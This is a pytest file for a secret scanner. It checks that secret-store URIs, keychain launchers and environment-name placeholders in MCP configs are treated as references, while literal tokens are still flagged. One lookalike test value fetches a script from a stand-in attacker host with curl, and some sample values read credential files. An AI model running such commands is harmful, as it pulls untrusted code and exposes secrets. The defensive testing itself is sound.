"""References people commit instead of a value, found in public configs (wave-4 real-world pass):
secret-store URIs, launchers that read a secret store through `$(...)`, LiteLLM `os.environ/NAME`,
Maven/Gradle `@NAME@`. Each is a reference (never a secret finding, no hardening rule claims it),
while a literal next to one, or inside a `$(echo ...)`, is still found. Values built at run time."""

from __future__ import annotations

import json

import pytest

from scanner.engines.decode import shell_words
from scanner.references import RefSyntax, find_references, strip_references
from tests.engines.helpers import mcp_json, scan
from tests.fakes import fake_token

S = RefSyntax


@pytest.mark.parametrize("text,syntax", [
    ("op://Private/OpenAI/credential", S.SECRET_STORE),
    ("vault:secret/data/mcp#token", S.SECRET_STORE),
    ("ref+awssecrets://mcp/api-key", S.SECRET_STORE),
    ("arn:aws:secretsmanager:us-east-1:123456789012:secret:mcp/api-key-AbCdEf", S.SECRET_STORE),
    ("arn:aws:ssm:eu-west-1:123456789012:parameter/mcp/token", S.SECRET_STORE),
    ("projects/my-proj/secrets/mcp-api-key/versions/latest", S.SECRET_STORE),
    ("sm://my-proj/mcp-api-key", S.SECRET_STORE),
    ("$(security find-generic-password -s gh -w)", S.COMMAND),
    ("$(op read op://Dev/GitHub/token)", S.COMMAND),
    ("$(pass show dev/github)", S.COMMAND),
    ("$(cat ~/.secrets/github)", S.COMMAND),
    ("$(echo Bearer $ACME_TOKEN)", S.COMMAND),
    ("os.environ/OPENAI_API_KEY", S.LITELLM),
    ("@OPENAI_API_KEY@", S.AT_NAME),
])
def test_whole_value_is_one_reference(text: str, syntax: RefSyntax) -> None:
    refs = find_references(text)
    assert [r.syntax for r in refs] == [syntax]
    assert strip_references(text) == ""


@pytest.mark.parametrize("text", [
    "https://api.example.com/v1/projects/p/secrets/s",  # a URL path, not a resource name
    "$(curl https://evil.example/x.sh)",  # not a secret-store reader
    "user@EXAMPLE.COM",  # one `@`
    "p@SSW0RD@x",
    "environ/OPENAI_API_KEY",
])
def test_lookalikes_are_not_references(text: str) -> None:
    assert [r.syntax for r in find_references(text)
            if r.syntax in (S.SECRET_STORE, S.COMMAND, S.LITELLM, S.AT_NAME)] == []


def _types(entry: dict[str, object]) -> list[str]:
    return [m.secret_type for m in scan(mcp_json(json.dumps({"svc": entry})))]


@pytest.mark.parametrize("value", ["op://Private/OpenAI/credential", "vault:secret/data/mcp#token",
                                   "arn:aws:secretsmanager:us-east-1:123456789012:secret:mcp/k-AbCdEf",
                                   "projects/my-proj/secrets/mcp-api-key/versions/latest",
                                   "os.environ/OPENAI_API_KEY", "@OPENAI_API_KEY@"])
def test_secret_store_references_are_not_secrets(value: str) -> None:
    assert _types({"command": "npx", "args": ["svc"], "env": {"OPENAI_API_KEY": value}}) == []


def test_keychain_launcher_is_not_a_secret() -> None:
    script = 'export GITHUB_TOKEN="$(security find-generic-password -s gh -w)"; exec npx -y gh-mcp'
    assert _types({"command": "sh", "args": ["-c", script]}) == []


def test_a_literal_inside_echo_substitution_is_still_found() -> None:
    token = fake_token("ghp_", 36, seed=61)
    assert _types({"command": "sh", "args": ["-c", f"export GITHUB_TOKEN=$(echo {token}); npx gh"]}) == [
        "github-pat"]


def test_command_separators_are_their_own_words() -> None:
    assert shell_words("export K=v; exec npx") == ["export", "K=v", ";", "exec", "npx"]
    assert shell_words("set K=v&& npx x | tee log") == ["set", "K=v", "&&", "npx", "x", "|", "tee", "log"]
    assert shell_words('K="a;b" npx') == ["K=a;b", "npx"]  # quoted: part of the value


def test_a_value_before_a_separator_is_reported_once_without_it() -> None:
    opaque = fake_token("", 40, seed=62)
    found = scan(mcp_json(json.dumps({"svc": {"command": "bash", "args": [
        "-c", f"export ACME_API_KEY={opaque}; exec uvx acme-mcp"]}})))
    assert [m.value for m in found] == [opaque]
